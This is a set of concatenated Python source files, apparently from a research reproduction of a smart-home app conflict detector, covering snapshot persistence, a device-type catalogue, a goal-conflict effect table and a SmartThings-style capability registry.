            self.pipeline.commit(review.app_name, ruleset)
            # Accepted pairs join the Allowed list for chained detection
            # (paper §VI-D).
            self.allowed.add_all(review.threats)
            self.save_store()
        elif decision is InstallDecision.DELETE:
            self.rule_recorder.forget(review.app_name)
            self.config_recorder.forget(review.app_name)
            self.pipeline.discard(review.app_name)
            self.pipeline.remove_ruleset(review.app_name)
            self.save_store()
        else:
            # RECONFIGURE keeps nothing: the app will send a fresh
            # payload after the user updates its settings.
            self.pipeline.discard(review.app_name)

    def installed_apps(self) -> list[str]:
        return sorted(self.rule_recorder.rulesets)

    def ruleset_of(self, app_name: str) -> RuleSet | None:
        return self.rule_recorder.rules_of(app_name)

    # ------------------------------------------------------------------
    # Persistence (save-on-commit / load-on-startup, DESIGN.md §8)

    def _threat_restorable(self, threat: Threat) -> bool:
        """Whether a persisted record of this threat could be rebuilt on
        load: every rule it mentions must belong to a recorded app."""
        apps = {threat.rule_a.app_name, threat.rule_b.app_name}
        apps.update(rule.app_name for rule in threat.chain)
        return all(app in self.rule_recorder.rulesets for app in apps)

    def save_store(self) -> None:
        """Snapshot detection state + recorders to the configured store
        (a no-op without a ``store_path``).  Called on every commit."""
        if self.store is None:
            return
        frontend = {
            "payloads": [
                {
                    "app": payload.app_name,
                    "devices": dict(payload.devices),
                    "values": dict(payload.values),
                }
                for payload in self.config_recorder.payloads.values()
            ],
            "device_types": dict(self.config_recorder.device_types),
            "allowed": [
                [threat.type.value, threat.rule_a.rule_id,
                 threat.rule_b.rule_id]
                for threat in self.allowed.pairs
            ],
            # Review/decision history: every install screen shown so
            # far, with the user's one-time decision — the provenance
            # of the Allowed list and of each kept app.  Survives warm
            # restarts (the past is re-rendered, not re-detected).
            # Threat records referencing apps whose rules are no longer
            # recorded (deleted apps) could never be reconstructed on
            # load, so they are pruned here instead of being carried as
            # dead weight in every snapshot; the review entry itself —
            # app, rendered rules, decision — always persists.
            "reviews": [
                {
                    "app": review.app_name,
                    "rules": list(review.rules),
                    "decision": review.decision,
                    "threats": [
                        _threat_record(t)
                        for t in review.threats
                        if self._threat_restorable(t)
                    ],
                    "chains": [
                        _threat_record(t)
                        for t in review.chains
                        if self._threat_restorable(t)
                    ],
                }
                for review in self.reviews
            ],
            "extra": self.frontend_state,
        }
        self.store.save(
            self.pipeline,
            rulesets=self.rule_recorder.rulesets,
            frontend=frontend,
        )

    def load_store(self) -> list[str]:
        """Warm-start this companion app from the persisted store.

        Restores the configuration recorder, rule recorder and Allowed
        list, then loads the pipeline: fingerprint-validated apps come
        back without a single solver call; apps whose recorded bindings
        changed since the snapshot are transparently re-reviewed (their
        fresh reviews are appended like any install).  Returns the
        restored app names; with no / an unusable store nothing changes
        and the list is empty."""
        if self.store is None:
            return []
        snapshot = self.store.load()
        if snapshot is None:
            return []
        frontend = (
            snapshot.frontend if isinstance(snapshot.frontend, dict) else {}
        )
        # Configuration first: the recorder *is* the pipeline's resolver,
        # so identities must be in place before any re-signing happens.
        # Malformed entries are skipped (the app then restores as stale
        # or not at all — degraded, never a crash).
        for entry in frontend.get("payloads", []):
            try:
                self.config_recorder.record(
                    ConfigPayload(
                        app_name=entry["app"],
                        devices=dict(entry.get("devices", {})),
                        values=dict(entry.get("values", {})),
                    )
                )
            except (TypeError, KeyError, ValueError):
                continue
        device_types = frontend.get("device_types", {})
        if isinstance(device_types, dict):
            self.config_recorder.device_types.update(device_types)
        extra = frontend.get("extra", {})
        self.frontend_state = dict(extra) if isinstance(extra, dict) else {}
        rulesets = snapshot.rulesets()
        result = self.store.restore_into(
            self.pipeline, list(rulesets.values()), snapshot=snapshot
        )
        for ruleset in rulesets.values():
            self.rule_recorder.record(ruleset)
        rules_by_id = {
            rule.rule_id: rule
            for ruleset in rulesets.values()
            for rule in ruleset.rules
        }
        for entry in frontend.get("allowed", []):
            try:
                type_value, id_a, id_b = entry
                threat_type = ThreatType(type_value)
            except (TypeError, ValueError):
                continue
            rule_a, rule_b = rules_by_id.get(id_a), rules_by_id.get(id_b)
            if rule_a is not None and rule_b is not None:
                self.allowed.add(
                    Threat(type=threat_type, rule_a=rule_a, rule_b=rule_b)
                )
        # Replay the persisted review/decision history so past install
        # screens re-render after a warm restart.  Threats mentioning
        # rules that did not restore are dropped from their review;
        # malformed review entries are skipped entirely.
        for entry in frontend.get("reviews", []):
            try:
                review = InstallReview(
                    app_name=str(entry["app"]),
                    rules=[str(rule) for rule in entry.get("rules", [])],
                    decision=(
                        str(entry["decision"])
                        if entry.get("decision") is not None
                        else None
                    ),
                )
            except (TypeError, KeyError, ValueError):
                continue
            for kind, into in (
                ("threats", review.threats),
                ("chains", review.chains),
            ):
                for record in entry.get(kind, []):
                    threat = _threat_from_record(record, rules_by_id)
                    if threat is not None:
                        into.append(threat)
            self.reviews.append(review)
        # Binding changes surface as fresh reviews, exactly like a
        # re-sent configuration payload would.
        for report in result.reports:
            ruleset = rulesets.get(report.app_name)
            self.reviews.append(
                InstallReview(
                    app_name=report.app_name,
                    rules=[describe_rule(r) for r in ruleset.rules]
                    if ruleset else [],
                    threats=report.threats,
                    chains=find_chains(report.threats, self.allowed),
                )
            )
        return result.warm_apps + result.stale_apps
