"""Device-type catalogue and device instances.

A device type bundles the capabilities a physical product supports plus
its physical effects on environment channels (the basis of the paper's
M_GC goal analysis).  Device instances carry the globally unique 128-bit
identifier that SmartThings assigns and that HomeGuard's configuration
collector transmits (paper Section VII).
"""

from __future__ import annotations

import hashlib
import uuid
from dataclasses import dataclass, field

from repro.capabilities.registry import CAPABILITIES, Capability, capability


@dataclass(frozen=True, slots=True)
class DeviceType:
    """A kind of physical (or virtual) device.

    ``effects`` maps command name -> {channel: delta-direction} where the
    direction is ``+1`` (increases the channel), ``-1`` (decreases) or a
    magnitude used by the runtime simulator.  ``virtual`` devices (e.g.
    the location mode) have no environment effects by definition.
    """

    name: str
    capabilities: tuple[str, ...]
    effects: dict[str, dict[str, float]] = field(default_factory=dict)
    virtual: bool = False

    def capability_objects(self) -> list[Capability]:
        return [capability(name) for name in self.capabilities]

    def has_capability(self, name: str) -> bool:
        if name.startswith("capability."):
            name = name[len("capability."):]
        return name in self.capabilities

    def attributes(self) -> dict[str, object]:
        merged: dict[str, object] = {}
        for cap in self.capability_objects():
            merged.update(cap.attributes)
        return merged

    def commands(self) -> set[str]:
        names: set[str] = set()
        for cap in self.capability_objects():
            names.update(cap.commands)
        return names


# Effect magnitudes are rates-per-minute used by the runtime simulator;
# the detector only uses their sign (the paper's +/-/# markers).
_W = {"power": 1.0}  # generic powered-device draw marker


def _on_off_effects(on_effects: dict[str, float], wattage: float = 50.0) -> dict:
    on = dict(on_effects)
    on["power"] = wattage
    off = {channel: -delta for channel, delta in on.items()}
    return {"on": on, "off": off}


DEVICE_TYPES: dict[str, DeviceType] = {
    device.name: device
    for device in [
        # Sensors --------------------------------------------------------
        DeviceType("motionSensor", ("motionSensor", "sensor", "battery")),
        DeviceType("contactSensor", ("contactSensor", "sensor", "battery")),
        DeviceType("multipurposeSensor",
                   ("contactSensor", "temperatureMeasurement", "accelerationSensor",
                    "threeAxis", "sensor", "battery")),
        DeviceType("temperatureSensor", ("temperatureMeasurement", "sensor")),
        DeviceType("illuminanceSensor", ("illuminanceMeasurement", "sensor")),
        DeviceType("humiditySensor", ("relativeHumidityMeasurement", "sensor")),
        DeviceType("presenceSensor", ("presenceSensor", "sensor", "battery")),
        DeviceType("smokeDetector", ("smokeDetector", "carbonMonoxideDetector", "sensor")),
        DeviceType("co2Sensor", ("carbonDioxideMeasurement", "sensor")),
        DeviceType("powerMeter", ("powerMeter", "energyMeter", "sensor")),
        DeviceType("energyMeter", ("energyMeter", "powerMeter", "sensor")),
        DeviceType("soundSensor", ("soundSensor", "soundPressureLevel", "sensor")),
        DeviceType("waterLeakSensor", ("waterSensor", "sensor", "battery")),
        DeviceType("button", ("button", "holdableButton", "sensor", "battery")),
        DeviceType("sleepSensor", ("sleepSensor", "sensor")),
        DeviceType("petFeederShield", ("switch", "actuator"),
                   effects=_on_off_effects({}, wattage=5.0)),
        DeviceType("jawboneUser", ("sleepSensor", "sensor")),
        # Plain switches / outlets ----------------------------------------
        DeviceType("switch", ("switch", "actuator"),
                   effects=_on_off_effects({}, wattage=40.0)),
        DeviceType("outlet", ("outlet", "switch", "powerMeter", "actuator"),
                   effects=_on_off_effects({}, wattage=60.0)),
        DeviceType("relaySwitch", ("relaySwitch", "switch", "actuator"),
                   effects=_on_off_effects({}, wattage=40.0)),
        # Lighting ---------------------------------------------------------
        DeviceType("light", ("light", "switch", "switchLevel", "actuator"),
                   effects=_on_off_effects({"illuminance": 400.0}, wattage=9.0)),
        DeviceType("bulb", ("bulb", "switch", "switchLevel", "colorControl",
                            "colorTemperature", "actuator"),
                   effects=_on_off_effects({"illuminance": 400.0}, wattage=9.0)),
        DeviceType("dimmer", ("switch", "switchLevel", "actuator"),
                   effects=_on_off_effects({"illuminance": 300.0}, wattage=9.0)),
        DeviceType("floorLamp", ("switch", "switchLevel", "actuator"),
                   effects=_on_off_effects({"illuminance": 250.0}, wattage=12.0)),
        DeviceType("nightlight", ("switch", "switchLevel", "actuator"),
                   effects=_on_off_effects({"illuminance": 40.0}, wattage=3.0)),
        # Climate ----------------------------------------------------------
        DeviceType("heater", ("switch", "actuator"),
                   effects=_on_off_effects({"temperature": 0.8}, wattage=1500.0)),
        DeviceType("airConditioner", ("switch", "actuator"),
                   effects=_on_off_effects({"temperature": -0.8, "humidity": -0.5},
                                           wattage=1200.0)),
        DeviceType("fan", ("switch", "fanSpeed", "actuator"),
                   effects=_on_off_effects({"temperature": -0.2}, wattage=75.0)),
        DeviceType("thermostat",
                   ("thermostat", "temperatureMeasurement", "thermostatMode",
                    "thermostatHeatingSetpoint", "thermostatCoolingSetpoint",
                    "actuator", "sensor"),
                   effects={
                       "heat": {"temperature": 0.8, "power": 1500.0},
                       "cool": {"temperature": -0.8, "power": 1200.0},
                       "off": {"power": -1200.0},
                       "setHeatingSetpoint": {"temperature": 0.5, "power": 800.0},
                       "setCoolingSetpoint": {"temperature": -0.5, "power": 800.0},
                   }),
        DeviceType("humidifier", ("switch", "actuator"),
                   effects=_on_off_effects({"humidity": 0.7}, wattage=40.0)),
        DeviceType("dehumidifier", ("switch", "actuator"),
                   effects=_on_off_effects({"humidity": -0.7}, wattage=300.0)),
        DeviceType("spaceHeaterValve", ("valve", "actuator"),
                   effects={"open": {"temperature": 0.4},
                            "close": {"temperature": -0.4}}),
        # Openings ---------------------------------------------------------
        DeviceType("windowOpener", ("switch", "actuator"),
                   # Opening a window vents heat toward the outdoors.
                   effects=_on_off_effects({"temperature": -0.5,
                                            "humidity": 0.3},
                                           wattage=20.0)),
        DeviceType("windowShade", ("windowShade", "actuator"),
                   effects={"open": {"illuminance": 300.0},
                            "close": {"illuminance": -300.0},
                            "presetPosition": {"illuminance": 120.0}}),
        DeviceType("curtain", ("switch", "windowShade", "actuator"),
                   effects={"on": {"illuminance": 300.0, "power": 15.0},
                            "off": {"illuminance": -300.0, "power": -15.0},
                            "open": {"illuminance": 300.0},
                            "close": {"illuminance": -300.0}}),
        DeviceType("doorLock", ("lock", "battery", "actuator", "sensor")),
        DeviceType("doorControl", ("doorControl", "contactSensor", "actuator", "sensor"),
                   effects={"open": {"temperature": -0.3, "sound": 8.0},
                            "close": {"temperature": 0.3, "sound": -8.0}}),
        DeviceType("garageDoor", ("garageDoorControl", "contactSensor", "actuator"),
                   effects={"open": {"temperature": -0.4},
                            "close": {"temperature": 0.4}}),
        DeviceType("waterValve", ("valve", "actuator")),
        DeviceType("sprinkler", ("valve", "switch", "actuator"),
                   effects=_on_off_effects({"humidity": 0.4}, wattage=30.0)),
        # Entertainment / appliances ----------------------------------------
        DeviceType("tv", ("switch", "tvChannel", "audioVolume", "actuator"),
                   effects=_on_off_effects({"sound": 30.0}, wattage=150.0)),
        DeviceType("speaker", ("musicPlayer", "audioNotification", "speechSynthesis",
                               "tone", "actuator"),
                   effects={"play": {"sound": 35.0, "power": 20.0},
                            "stop": {"sound": -35.0, "power": -20.0},
                            "pause": {"sound": -35.0},
                            "playTrack": {"sound": 35.0, "power": 20.0},
                            "beep": {"sound": 15.0},
                            "speak": {"sound": 20.0},
                            "playText": {"sound": 20.0}}),
        DeviceType("camera", ("imageCapture", "switch", "motionSensor", "actuator", "sensor"),
                   effects=_on_off_effects({}, wattage=10.0)),
        DeviceType("siren", ("alarm", "actuator"),
                   effects={"siren": {"sound": 80.0, "power": 15.0},
                            "strobe": {"illuminance": 150.0, "power": 15.0},
                            "both": {"sound": 80.0, "illuminance": 150.0, "power": 20.0},
                            "off": {"sound": -80.0, "illuminance": -150.0, "power": -20.0}}),
        DeviceType("coffeeMaker", ("switch", "actuator"),
                   effects=_on_off_effects({"temperature": 0.05}, wattage=900.0)),
        DeviceType("oven", ("switch", "ovenMode", "ovenSetpoint", "actuator"),
                   effects=_on_off_effects({"temperature": 0.3}, wattage=2400.0)),
        DeviceType("washer", ("switch", "washerMode", "washerOperatingState", "actuator"),
                   effects=_on_off_effects({"sound": 20.0, "humidity": 0.2},
                                           wattage=500.0)),
        DeviceType("vacuumRobot", ("switch", "robotCleanerCleaningMode",
                                   "robotCleanerMovement", "actuator"),
                   effects=_on_off_effects({"sound": 25.0}, wattage=90.0)),
        # Virtual ----------------------------------------------------------
        DeviceType("locationMode", ("sensor",), virtual=True),
        DeviceType("simulatedSwitch", ("switch", "actuator"), virtual=True),
    ]
}


def device_type(name: str) -> DeviceType:
    try:
        return DEVICE_TYPES[name]
    except KeyError:
        raise KeyError(f"unknown device type: {name!r}") from None


def device_types_with_capability(capability_name: str) -> list[DeviceType]:
    """All device types supporting ``capability_name`` (paper Section
    VIII-B classifies `capability.switch` devices by type this way)."""
    if capability_name.startswith("capability."):
        capability_name = capability_name[len("capability."):]
    return [
        dtype for dtype in DEVICE_TYPES.values()
        if capability_name in dtype.capabilities
    ]


def make_device_id(seed: str | None = None) -> str:
    """Produce a globally unique 128-bit device identifier.

    With a ``seed`` the id is deterministic (UUIDv5 style), which keeps
    tests and corpus fixtures reproducible; otherwise a random UUID4 is
    produced, matching SmartThings' opaque identifiers.
    """
    if seed is None:
        return str(uuid.uuid4())
    digest = hashlib.sha256(seed.encode()).hexdigest()
    return str(uuid.UUID(digest[:32]))


@dataclass(slots=True)
class Device:
    """A concrete device bound to a home.

    ``state`` holds the current attribute values; construction fills in
    per-capability defaults so freshly created devices are well-formed.
    """

    device_id: str
    label: str
    type_name: str
    state: dict[str, object] = field(default_factory=dict)

    # Quiescent values preferred as attribute defaults, in order.
    _DEFAULT_PREFERENCE = (
        "off", "closed", "locked", "inactive", "not present", "clear",
        "dry", "stopped", "idle", "unmuted", "paused", "auto", "normal",
        "good", "never", "unknown",
    )

    def __post_init__(self) -> None:
        dtype = device_type(self.type_name)
        for attr_name, spec in dtype.attributes().items():
            if attr_name in self.state:
                continue
            if spec.kind == "enum" and spec.values:
                self.state[attr_name] = next(
                    (v for v in self._DEFAULT_PREFERENCE if v in spec.values),
                    spec.values[-1],
                )
            elif spec.kind == "number":
                self.state[attr_name] = spec.low
            else:
                self.state[attr_name] = ""

    @property
    def type(self) -> DeviceType:
        return device_type(self.type_name)

    def supports_command(self, command: str) -> bool:
        return command in self.type.commands()

    def current_value(self, attribute: str) -> object:
        if attribute not in self.state:
            raise KeyError(
                f"device {self.label!r} ({self.type_name}) has no attribute "
                f"{attribute!r}"
            )
        return self.state[attribute]
