"""Goal analysis effect table — the paper's M_GC (Section VI-A1).

For Goal Conflict detection the paper considers how measurable home
properties (temperature, illuminance, humidity, noise, ...) are affected
by each command of a device type, denoting effects as ``+`` (increasing),
``-`` (decreasing) and ``#`` (irrelevant).  Virtual actuators (e.g. the
location mode) have no entries by construction.
"""

from __future__ import annotations

import enum

from repro.capabilities.devices import DEVICE_TYPES, device_type


class Effect(enum.Enum):
    """Direction of a command's influence on an environment channel."""

    INCREASE = "+"
    DECREASE = "-"
    IRRELEVANT = "#"

    @property
    def opposite(self) -> "Effect":
        if self is Effect.INCREASE:
            return Effect.DECREASE
        if self is Effect.DECREASE:
            return Effect.INCREASE
        return Effect.IRRELEVANT


def effects_of_command(type_name: str, command: str) -> dict[str, Effect]:
    """The channel effects of issuing ``command`` on a ``type_name``
    device, e.g. ``effects_of_command("heater", "on")`` ->
    ``{"temperature": +, "power": +}``."""
    dtype = device_type(type_name)
    raw = dtype.effects.get(command, {})
    return {
        channel: Effect.INCREASE if delta > 0 else Effect.DECREASE
        for channel, delta in raw.items()
        if delta != 0
    }


def opposite_effects(
    type_a: str, command_a: str, type_b: str, command_b: str
) -> list[str]:
    """Channels on which the two commands push in opposite directions —
    the Goal Conflict candidate test.  Returns the conflicting channel
    names (empty list means no conflict)."""
    effects_a = effects_of_command(type_a, command_a)
    effects_b = effects_of_command(type_b, command_b)
    conflicts = []
    for channel, effect in effects_a.items():
        other = effects_b.get(channel)
        if other is not None and other is effect.opposite:
            conflicts.append(channel)
    return sorted(conflicts)


def goal_relevant_device_types() -> list[str]:
    """Device types included in M_GC: physical actuators whose commands
    move at least one channel."""
    return sorted(
        name
        for name, dtype in DEVICE_TYPES.items()
        if not dtype.virtual and any(dtype.effects.values())
    )
