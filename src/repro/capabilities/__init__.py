"""Device capability model for the SmartThings-style platform.

Capabilities abstract device features the way SmartThings does
(paper Appendix A): each capability defines *attributes* a SmartApp may
read or subscribe to, and *commands* it may issue.  The paper models
126 device-control commands protected by 104 capabilities; this package
reproduces that registry, the device-type catalogue, the environment
channels (temperature, illuminance, ...) and the command -> environment
effect table used for Goal Conflict analysis (the paper's M_GC).
"""

from repro.capabilities.channels import (
    CHANNELS,
    Channel,
    channel_for_attribute,
)
from repro.capabilities.registry import (
    CAPABILITIES,
    AttributeSpec,
    Capability,
    CommandSpec,
    capability,
    command_count,
    find_command,
    is_sink_command,
)
from repro.capabilities.devices import (
    DEVICE_TYPES,
    Device,
    DeviceType,
    device_type,
    device_types_with_capability,
    make_device_id,
)
from repro.capabilities.effects import (
    Effect,
    effects_of_command,
    opposite_effects,
)

__all__ = [
    "AttributeSpec",
    "CAPABILITIES",
    "CHANNELS",
    "Capability",
    "Channel",
    "CommandSpec",
    "DEVICE_TYPES",
    "Device",
    "DeviceType",
    "Effect",
    "capability",
    "channel_for_attribute",
    "command_count",
    "device_type",
    "device_types_with_capability",
    "effects_of_command",
    "find_command",
    "is_sink_command",
    "make_device_id",
    "opposite_effects",
]
