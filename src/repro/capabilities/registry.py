"""The capability registry (paper Appendix A).

Capabilities, similar to permissions in mobile applications, abstract
device types by functionality.  Each capability defines attributes
(readable / subscribable state) and commands (the symbolic executor's
sinks).  The paper considers 126 device-control commands protected by
104 capabilities; this registry reproduces those counts with the
SmartThings classic capability catalogue.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class AttributeSpec:
    """One capability attribute.

    ``kind`` is ``"enum"`` (finite string values), ``"number"`` or
    ``"string"``.  Numeric attributes carry a unit plus solver bounds.
    """

    name: str
    kind: str
    values: tuple[str, ...] = ()
    unit: str = ""
    low: float = 0.0
    high: float = 0.0


@dataclass(frozen=True, slots=True)
class CommandSpec:
    """One capability command.

    ``sets`` maps attribute name to the value the command drives it to
    (``None`` means the value comes from the command's first parameter,
    e.g. ``setLevel(level)``).  ``params`` names the formal parameters.
    """

    name: str
    capability: str
    sets: tuple[tuple[str, str | None], ...] = ()
    params: tuple[str, ...] = ()

    def target_value(self, attribute: str) -> str | None:
        for attr, value in self.sets:
            if attr == attribute:
                return value
        return None


@dataclass(frozen=True, slots=True)
class Capability:
    """A named capability with its attributes and commands."""

    name: str
    attributes: dict[str, AttributeSpec] = field(default_factory=dict)
    commands: dict[str, CommandSpec] = field(default_factory=dict)

    @property
    def reference(self) -> str:
        """The string SmartApps use in ``input`` declarations."""
        return f"capability.{self.name}"


def _enum(name: str, *values: str) -> AttributeSpec:
    return AttributeSpec(name=name, kind="enum", values=values)


def _num(name: str, unit: str = "", low: float = 0, high: float = 100) -> AttributeSpec:
    return AttributeSpec(name=name, kind="number", unit=unit, low=low, high=high)


def _str(name: str) -> AttributeSpec:
    return AttributeSpec(name=name, kind="string")


def _cap(
    name: str,
    attrs: list[AttributeSpec] | None = None,
    commands: list[tuple] | None = None,
) -> Capability:
    """Build a capability; commands are (name, sets, params) tuples."""
    attributes = {attr.name: attr for attr in (attrs or [])}
    command_specs = {}
    for entry in commands or []:
        cmd_name = entry[0]
        sets = tuple(entry[1]) if len(entry) > 1 else ()
        params = tuple(entry[2]) if len(entry) > 2 else ()
        command_specs[cmd_name] = CommandSpec(
            name=cmd_name, capability=name, sets=sets, params=params
        )
    return Capability(name=name, attributes=attributes, commands=command_specs)


_SWITCH_ATTR = _enum("switch", "on", "off")
_SWITCH_COMMANDS = [
    ("on", [("switch", "on")]),
    ("off", [("switch", "off")]),
]

_RAW_CAPABILITIES: list[Capability] = [
    # --- Sensing capabilities (attributes only) ---
    _cap("accelerationSensor", [_enum("acceleration", "active", "inactive")]),
    _cap("airQualitySensor", [_num("airQuality", "CAQI", 0, 100)]),
    _cap("battery", [_num("battery", "%", 0, 100)]),
    _cap("beacon", [_enum("presence", "present", "not present")]),
    _cap("button", [_enum("button", "pushed", "held")]),
    _cap("carbonDioxideMeasurement", [_num("carbonDioxide", "ppm", 0, 10000)]),
    _cap("carbonMonoxideDetector", [_enum("carbonMonoxide", "clear", "detected", "tested")]),
    _cap("contactSensor", [_enum("contact", "open", "closed")]),
    _cap("dustSensor", [_num("dustLevel", "ug/m3", 0, 1000)]),
    _cap("energyMeter", [_num("energy", "kWh", 0, 1000000)]),
    _cap("estimatedTimeOfArrival", [_str("eta")]),
    _cap("geolocation", [_num("latitude", "deg", -90, 90), _num("longitude", "deg", -180, 180)]),
    _cap("holdableButton", [_enum("button", "pushed", "held")]),
    _cap("illuminanceMeasurement", [_num("illuminance", "lux", 0, 100000)]),
    _cap("motionSensor", [_enum("motion", "active", "inactive")]),
    _cap("occupancySensor", [_enum("occupancy", "occupied", "unoccupied")]),
    _cap("pHMeasurement", [_num("pH", "pH", 0, 14)]),
    _cap("powerMeter", [_num("power", "W", 0, 100000)]),
    _cap("powerSource", [_enum("powerSource", "battery", "dc", "mains", "unknown")]),
    _cap("presenceSensor", [_enum("presence", "present", "not present")]),
    _cap("relativeHumidityMeasurement", [_num("humidity", "%", 0, 100)]),
    _cap("shockSensor", [_enum("shock", "detected", "clear")]),
    _cap("signalStrength", [_num("lqi", "", 0, 255), _num("rssi", "dBm", -200, 0)]),
    _cap("sleepSensor", [_enum("sleeping", "sleeping", "not sleeping")]),
    _cap("smokeDetector", [_enum("smoke", "clear", "detected", "tested")]),
    _cap("soundPressureLevel", [_num("soundPressureLevel", "dB", 0, 140)]),
    _cap("soundSensor", [_enum("sound", "detected", "not detected")]),
    _cap("speechRecognition", [_str("phraseSpoken")]),
    _cap("stepSensor", [_num("steps", "steps", 0, 100000), _num("goal", "steps", 0, 100000)]),
    _cap("tamperAlert", [_enum("tamper", "clear", "detected")]),
    _cap("temperatureMeasurement", [_num("temperature", "F", -40, 150)]),
    _cap("threeAxis", [_str("threeAxis")]),
    _cap("touchSensor", [_enum("touch", "touched")]),
    _cap("ultravioletIndex", [_num("ultravioletIndex", "index", 0, 12)]),
    _cap("voltageMeasurement", [_num("voltage", "V", 0, 500)]),
    _cap("waterSensor", [_enum("water", "dry", "wet")]),
    _cap("filterStatus", [_enum("filterStatus", "normal", "replace")]),
    _cap("thermostatOperatingState", [
        _enum("thermostatOperatingState", "cooling", "fan only", "heating",
              "idle", "pending cool", "pending heat", "vent economizer")
    ]),
    _cap("thermostatSetpoint", [_num("thermostatSetpoint", "F", 35, 95)]),
    _cap("odorSensor", [_num("odorLevel", "", 0, 100)]),
    _cap("formaldehydeMeasurement", [_num("formaldehydeLevel", "ppm", 0, 10)]),
    _cap("tvocMeasurement", [_num("tvocLevel", "ppm", 0, 10)]),
    _cap("infraredLevel", [_num("infraredLevel", "%", 0, 100)],
         [("setInfraredLevel", [("infraredLevel", None)], ["level"])]),
    # --- Marker capabilities (no attributes, no commands) ---
    _cap("actuator"),
    _cap("sensor"),
    _cap("healthCheck", [_enum("healthStatus", "online", "offline")]),
    # --- Actuation capabilities ---
    _cap("alarm", [_enum("alarm", "strobe", "siren", "off", "both")], [
        ("off", [("alarm", "off")]),
        ("siren", [("alarm", "siren")]),
        ("strobe", [("alarm", "strobe")]),
        ("both", [("alarm", "both")]),
    ]),
    _cap("audioNotification", [], [
        ("playText", [], ["text"]),
        ("playTextAndResume", [], ["text"]),
        ("playTextAndRestore", [], ["text"]),
        ("playTrack", [], ["uri"]),
        ("playTrackAndResume", [], ["uri"]),
        ("playTrackAndRestore", [], ["uri"]),
    ]),
    _cap("audioMute", [_enum("mute", "muted", "unmuted")], [
        ("mute", [("mute", "muted")]),
        ("unmute", [("mute", "unmuted")]),
        ("setMute", [("mute", None)], ["state"]),
    ]),
    _cap("audioVolume", [_num("volume", "%", 0, 100)], [
        ("setVolume", [("volume", None)], ["volume"]),
        ("volumeUp", []),
        ("volumeDown", []),
    ]),
    _cap("bulb", [_SWITCH_ATTR], _SWITCH_COMMANDS),
    _cap("colorControl", [
        _str("color"), _num("hue", "%", 0, 100), _num("saturation", "%", 0, 100),
    ], [
        ("setColor", [("color", None)], ["color"]),
        ("setHue", [("hue", None)], ["hue"]),
        ("setSaturation", [("saturation", None)], ["saturation"]),
    ]),
    _cap("colorTemperature", [_num("colorTemperature", "K", 1000, 30000)], [
        ("setColorTemperature", [("colorTemperature", None)], ["temperature"]),
    ]),
    _cap("configuration", [], [("configure", [])]),
    _cap("consumable", [_enum("consumableStatus", "good", "replace", "missing", "order", "maintenance_required")], [
        ("setConsumableStatus", [("consumableStatus", None)], ["status"]),
    ]),
    _cap("doorControl", [_enum("door", "closed", "closing", "open", "opening", "unknown")], [
        ("open", [("door", "open")]),
        ("close", [("door", "closed")]),
    ]),
    _cap("fanSpeed", [_num("fanSpeed", "", 0, 4)], [
        ("setFanSpeed", [("fanSpeed", None)], ["speed"]),
    ]),
    _cap("garageDoorControl", [_enum("door", "closed", "closing", "open", "opening", "unknown")], [
        ("open", [("door", "open")]),
        ("close", [("door", "closed")]),
    ]),
    _cap("imageCapture", [_str("image")], [("take", [])]),
    _cap("indicator", [_enum("indicatorStatus", "when on", "when off", "never")], [
        ("indicatorWhenOn", [("indicatorStatus", "when on")]),
        ("indicatorWhenOff", [("indicatorStatus", "when off")]),
        ("indicatorNever", [("indicatorStatus", "never")]),
    ]),
    _cap("light", [_SWITCH_ATTR], _SWITCH_COMMANDS),
    _cap("lock", [_enum("lock", "locked", "unlocked", "unknown", "unlocked with timeout")], [
        ("lock", [("lock", "locked")]),
        ("unlock", [("lock", "unlocked")]),
    ]),
    _cap("lockOnly", [_enum("lock", "locked", "unlocked")], [
        ("lock", [("lock", "locked")]),
    ]),
    _cap("mediaController", [_str("activities"), _str("currentActivity")], [
        ("startActivity", [("currentActivity", None)], ["activity"]),
    ]),
    _cap("mediaInputSource", [_str("inputSource")], [
        ("setInputSource", [("inputSource", None)], ["source"]),
    ]),
    _cap("mediaPlayback", [_enum("playbackStatus", "playing", "paused", "stopped")], [
        ("play", [("playbackStatus", "playing")]),
        ("pause", [("playbackStatus", "paused")]),
        ("stop", [("playbackStatus", "stopped")]),
    ]),
    _cap("mediaTrackControl", [], [
        ("nextTrack", []),
        ("previousTrack", []),
    ]),
    _cap("momentary", [], [("push", [])]),
    _cap("musicPlayer", [
        _num("level", "%", 0, 100),
        _enum("mute", "muted", "unmuted"),
        _enum("status", "playing", "paused", "stopped"),
        _str("trackData"),
        _str("trackDescription"),
    ], [
        ("play", [("status", "playing")]),
        ("pause", [("status", "paused")]),
        ("stop", [("status", "stopped")]),
        ("mute", [("mute", "muted")]),
        ("unmute", [("mute", "unmuted")]),
        ("setLevel", [("level", None)], ["level"]),
        ("playTrack", [("status", "playing")], ["uri"]),
        ("setTrack", [], ["uri"]),
        ("resumeTrack", [("status", "playing")], ["uri"]),
        ("restoreTrack", [], ["uri"]),
        ("nextTrack", []),
        ("previousTrack", []),
    ]),
    _cap("notification", [], [("deviceNotification", [], ["text"])]),
    _cap("outlet", [_SWITCH_ATTR], _SWITCH_COMMANDS),
    _cap("polling", [], [("poll", [])]),
    _cap("refresh", [], [("refresh", [])]),
    _cap("relaySwitch", [_SWITCH_ATTR], _SWITCH_COMMANDS),
    _cap("speechSynthesis", [], [("speak", [], ["phrase"])]),
    _cap("switch", [_SWITCH_ATTR], _SWITCH_COMMANDS),
    _cap("switchLevel", [_num("level", "%", 0, 100)], [
        ("setLevel", [("level", None)], ["level"]),
    ]),
    _cap("thermostat", [
        _num("temperature", "F", -40, 150),
        _num("heatingSetpoint", "F", 35, 95),
        _num("coolingSetpoint", "F", 35, 95),
        _num("thermostatSetpoint", "F", 35, 95),
        _enum("thermostatMode", "auto", "cool", "emergency heat", "heat", "off"),
        _enum("thermostatFanMode", "auto", "circulate", "on"),
        _enum("thermostatOperatingState", "cooling", "fan only", "heating",
              "idle", "pending cool", "pending heat", "vent economizer"),
    ], [
        ("auto", [("thermostatMode", "auto")]),
        ("cool", [("thermostatMode", "cool")]),
        ("emergencyHeat", [("thermostatMode", "emergency heat")]),
        ("heat", [("thermostatMode", "heat")]),
        ("off", [("thermostatMode", "off")]),
        ("fanAuto", [("thermostatFanMode", "auto")]),
        ("fanCirculate", [("thermostatFanMode", "circulate")]),
        ("fanOn", [("thermostatFanMode", "on")]),
        ("setCoolingSetpoint", [("coolingSetpoint", None)], ["temperature"]),
        ("setHeatingSetpoint", [("heatingSetpoint", None)], ["temperature"]),
